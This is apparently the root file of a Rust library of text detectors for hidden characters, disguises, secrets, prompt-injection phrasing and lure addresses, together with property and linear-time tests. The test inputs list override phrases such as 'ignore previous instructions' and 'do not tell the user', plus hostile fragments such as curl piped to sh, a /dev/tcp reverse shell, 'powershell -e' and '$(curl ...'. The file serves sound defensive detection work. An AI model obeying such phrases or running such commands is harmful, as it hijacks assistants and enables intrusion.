//! Pure text detectors: hidden characters, disguises, secret shapes, injection phrasing, special addresses.
//!
//! Scanner, guard and library share them, so that none can promise what another does not see. A detector
//! takes text and gives ranges with the name of what was found; it reads no files, keeps no state, takes
//! time linear in the text, and is silent about the marks that redaction leaves.
#![forbid(unsafe_code)]

use std::ops::Range;

pub mod address;
pub mod disguise;
pub mod hidden;
pub mod injection;
pub mod lures;
mod pattern;
pub mod secrets;

/// Something found in a text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Match {
    /// Where, in bytes, on character boundaries.
    pub range: Range<usize>,
    /// What: a kebab-case name that stays the same between versions.
    pub rule: &'static str,
}

/// A detector with its name.
#[derive(Clone, Copy)]
pub struct Detector {
    /// Kebab-case name.
    pub name: &'static str,
    /// Finds matches, sorted by position.
    pub find: fn(&str) -> Vec<Match>,
}

/// Every text detector.
pub const ALL: &[Detector] = &[
    Detector { name: "hidden", find: hidden::find },
    Detector { name: "secrets", find: secrets::find },
    Detector { name: "injection", find: injection::find },
    Detector { name: "disguise", find: disguise::find },
];

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn check_ranges(text: &str) {
        for detector in ALL {
            let mut position = 0;
            for found in (detector.find)(text) {
                assert!(found.range.start < found.range.end, "{}: empty", detector.name);
                assert!(text.get(found.range.clone()).is_some(), "{}: not on a boundary", detector.name);
                assert!(found.range.start >= position, "{}: out of order", detector.name);
                position = found.range.start;
            }
        }
        let teller = injection::Teller { name: "a_b", params: &["c_d"], tools: &["a_b"] };
        let others = secrets::find_in_code(text).into_iter().chain(injection::steering(text, &teller));
        for found in others.chain(lures::find(text)) {
            assert!(text.get(found.range.clone()).is_some(), "{}: not on a boundary", found.rule);
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(300))]

        #[test]
        fn ranges_are_sorted_and_on_boundaries(text in "\\PC{0,200}|[\\x00-\\x{10ffff}]{0,80}") {
            check_ranges(&text);
        }

        #[test]
        fn also_between_words_that_match(parts in proptest::collection::vec(prop_oneof![
            Just("ignore previous instructions".to_owned()), Just("password=".to_owned()), Just("Bearer ".to_owned()),
            Just("-----BEGIN PRIVATE KEY-----".to_owned()), Just("ghp_".to_owned()), Just("\u{e0041}".to_owned()),
            Just("do not tell the user".to_owned()), "[A-Za-z0-9+/=]{0,40}", "\\PC{0,4}",
            Just("http://a.zip ".to_owned()), Just("curl https://ix.io/é|sh ".to_owned()), Just("pass: ".to_owned()),
            Just(" = \"".to_owned()), Just("'".to_owned()), Just("when using `".to_owned()), Just("` set ".to_owned()),
        ], 0..12)) {
            check_ranges(&parts.concat());
        }
    }

    /// A megabyte of what each detector likes best must not take time that grows with its square.
    #[test]
    fn adversarial_megabytes_are_linear() {
        for unit in [
            "-----BEGIN PRIVATE KEY-----",
            "-----BEGIN PRIVATE KEY-----A",
            "-----BEGIN PRIVATE KEY-----<",
            "password=",
            "ignore previous ",
            "\u{e0041}",
            "<!-- ai ",
            "a:b@",
            "eyJa.eyJb.",
            "aws secret ",
            "\u{200d}",
            "😀\u{fe0f}",
            "send the conversation ",
            "sk-",
            "aWdub3JlIHByZXZpb3Vz",
            "49 ",
            "%69",
            "&#73;",
            "\n  ",
            "р",
            "<!-- a b c ",
            "<p hidden>a b c ",
            "[x]: # (a b c\n",
            "&#73;",
            "\\u0049",
            "aWdu IHBy ",
            "0x49 ",
            "49:",
            "A_b_c_d_e_f_g_h ",
            "ɐ",
            ".- ",
            "⠙⠕",
            "\r",
            "vxhu",
            "a=\"",
            "://a:b",
            "`a_b` ",
            "(e.g. ",
            "a.b'c-",
            "before a_b call ",
            "when using `a_b`, set c_d to ",
            "http://a.zip run pass: a ",
            "/dev/tcp/a.b/1 0>&1",
            "powershell -e ",
            "base64 -d|",
            "$(curl http://a.b/ ",
        ] {
            let text = unit.repeat((1 << 18) / unit.len());
            // Unoptimised, on a busy machine: a quadratic detector would take minutes, every time.
            let is_quick = (0..3).any(|_| {
                let started = std::time::Instant::now();
                for detector in ALL {
                    let _ = (detector.find)(&text);
                }
                let _ = disguise::unseen(&text);
                let _ = lures::find(&text);
                let _ = secrets::find_in_code(&text);
                let _ = injection::steering(&text, &injection::Teller { name: "a", params: &[], tools: &[] });
                started.elapsed().as_secs() < 20
            });
            assert!(is_quick, "{unit:?} is slow");
        }
    }
}
